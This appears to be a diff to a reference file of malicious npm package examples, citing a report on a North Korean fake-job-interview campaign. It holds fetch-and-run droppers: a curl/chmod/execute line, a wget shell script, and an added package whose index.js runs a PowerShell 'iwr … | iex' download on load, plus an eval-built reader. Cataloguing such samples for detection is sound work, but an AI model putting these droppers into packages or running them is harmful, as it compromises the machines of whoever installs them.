@@ -6378,6 +6378,19 @@ exports.compile = (source) => new Function("data", "return `" + source.replace(/
 exports.root = new Function("return this")();
 ```
 
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const letter = (code) => String.fromCharCode(code + 97);
+const reader = () => {
+  let code = "(source, position) => {";
+  for (let i = 0; i < 8; i++) code += `let ${letter(i)} = source[position++]; if (${letter(i)} > 4) return finish(${letter(i)}, source);`;
+  return code + "}";
+};
+exports.read = eval(reader());
+```
+
 ## References
 
 - Socket: Another Wave: North Korean Contagious Interview Campaign Drops 35 New Malicious npm Packages (June 2025)
@@ -6471,6 +6484,14 @@ exec(`curl -o /tmp/.td ${base}/mac && chmod 755 /tmp/.td && /tmp/.td &`); //~ he
 #!/bin/sh
 (wget -qO /tmp/.gh https://assets.invalid/l || curl -so /tmp/.gh https://assets.invalid/l) 2>/dev/null
 chmod +x /tmp/.gh && nohup /tmp/.gh >/dev/null 2>&1 &
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const { exec } = require("child_process");
+exec('powershell -NoProfile "iwr https://theme.invalid/s.ps1 -UseBasicParsing | iex"'); //~ here
 ```
 
 ## Good
